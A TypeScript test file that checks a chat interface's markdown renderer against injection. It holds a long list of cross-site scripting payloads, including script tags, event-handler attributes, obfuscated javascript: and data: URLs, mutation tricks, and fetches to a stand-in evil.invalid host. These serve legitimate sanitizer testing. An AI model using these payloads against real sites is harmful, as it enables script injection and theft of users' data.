import { expect } from 'chai'
import { html, render } from 'lit'
import { parseMarkdown } from '../../conversation/markdown.ts'
import { renderBlocks } from './markdown.ts'

const executed: string[] = []
Object.assign(globalThis, { executed: (name: string) => executed.push(name) })

const evil = 'https://evil.invalid'

/** Ways to run a script, to fetch something or to restyle a page, as a model could write them. */
const markup = [
  '<script>executed("script")</script>',
  '<script src="https://evil.invalid/x.js"></script>',
  '<img src=x onerror=executed("img")>',
  `<img src="${evil}/pixel.gif">`,
  '<svg onload=executed("svg")>',
  '<svg><script>executed("svg-script")</script></svg>',
  '<svg><animate onbegin=executed("animate") attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=executed("mglyph")>',
  '<iframe src="javascript:parent.executed(1)"></iframe>',
  `<iframe srcdoc="<script>parent.executed('srcdoc')</script>"></iframe>`,
  `<object data="${evil}/x.swf"></object>`,
  `<embed src="${evil}/x.swf">`,
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<style>@import url("${evil}/x.css");*{color:red}</style>`,
  `<base href="${evil}/">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<form action="${evil}"><button>Send</button></form>`,
  '<input autofocus onfocus=executed("input")>',
  '<details open ontoggle=executed("details")>',
  '<video><source onerror=executed("video")></video>',
  '<body onload=executed("body")>',
  '<a href="javascript:executed(1)">x</a>',
  '<p style="background:url(https://evil.invalid/x.png)">x</p>',
  '<template shadowrootmode=open><img src=x onerror=executed("dsd")></template>',
  '<!--><img src=x onerror=executed("comment")>-->',
  '"><img src=x onerror=executed("quote")>',
  "'><img src=x onerror=executed('apostrophe')>",
  '`><img src=x onerror=executed("tick")>',
  '${executed("template")}',
  '{{constructor.constructor("executed(1)")()}}',
  '<?lit$123$?>',
  '<!--lit-part-->',
]

const addresses = [
  'javascript:executed(1)',
  'JaVaScRiPt:executed(1)',
  ' javascript:executed(1)',
  'java\tscript:executed(1)',
  'java\nscript:executed(1)',
  '\u0001javascript:executed(1)',
  'javascript&colon;executed(1)',
  'javascript&#58;executed(1)',
  '&#x6A;avascript:executed(1)',
  'javascript%3Aexecuted(1)',
  'data:text/html,<script>executed(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5leGVjdXRlZCgxKTwvc2NyaXB0Pg==',
  'vbscript:executed(1)',
  'file:///etc/passwd',
  'blob:https://evil.invalid/1',
  'about:blank',
  'view-source:https://evil.invalid',
  '//evil.invalid',
  '\\\\evil.invalid',
  'https:evil.invalid',
  '" onclick="executed(1)',
  'https://good.invalid" onmouseover="executed(1)',
]

const inMarkup = [
  (text: string) => text,
  (text: string) => `**${text}**`,
  (text: string) => `*${text}*`,
  (text: string) => `# ${text}`,
  (text: string) => `- ${text}`,
  (text: string) => `> ${text}`,
  (text: string) => `\`${text}\``,
  (text: string) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text: string) => `[${text}](${evil})`,
  (text: string) => `![${text}](${evil}/x.png)`,
]

const asAddress = [
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}>)`,
  (address: string) => `[x](${address} "title")`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => address,
  (address: string) => `[x][1]\n\n[1]: ${address}`,
  (address: string) => `- **[x](${address})**`,
  (address: string) => `[![x](${address})](${address})`,
]

const payloads = [
  ...markup.flatMap((text) => inMarkup.map((write) => write(text))),
  ...addresses.flatMap((address) => asAddress.map((write) => write(address))),
]

const tags = 'A BLOCKQUOTE BR CODE EM HR LI OL P PRE SPAN STRONG UL'.split(' ')
const attributes = 'class dir href rel start tabindex target'.split(' ')

describe('markdown on the page', () => {
  it('runs nothing, fetches nothing and makes nothing but text and checked links', async () => {
    expect(payloads.length).to.be.at.least(500)
    const place = document.createElement('div')
    document.body.append(place)
    for (const payload of payloads) {
      // As a stream brings it: cut in the middle first, then whole.
      for (const text of [payload.slice(0, payload.length / 2), payload]) {
        render(html`<div>${renderBlocks(parseMarkdown(text))}</div>`, place)
        for (const element of place.querySelectorAll(':scope > div *')) {
          expect(tags, payload).to.include(element.tagName)
          expect(attributes, payload).to.include.members(element.getAttributeNames())
          if (element instanceof HTMLAnchorElement) {
            expect(['http:', 'https:', 'mailto:'], payload).to.include(element.protocol)
          }
        }
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 50))
    const fetched = performance.getEntriesByType('resource').map(({ name }) => name)
    expect(fetched.filter((name) => name.includes('.invalid'))).to.deep.equal([])
    expect(executed).to.deep.equal([])
    place.remove()
  })

  it('holds under Trusted Types and a strict style policy: no attribute carries styles', () => {
    const place = document.createElement('div')
    const everything =
      '# a\n\n1. *b*\n\n> **c**\n\n```x\nd\n```\n\n---\n\n[e](https://f.invalid) `g`'
    render(html`${renderBlocks(parseMarkdown(everything))}`, place)
    expect(place.querySelector('[style], [onclick], [id]')).to.equal(null)
  })
})
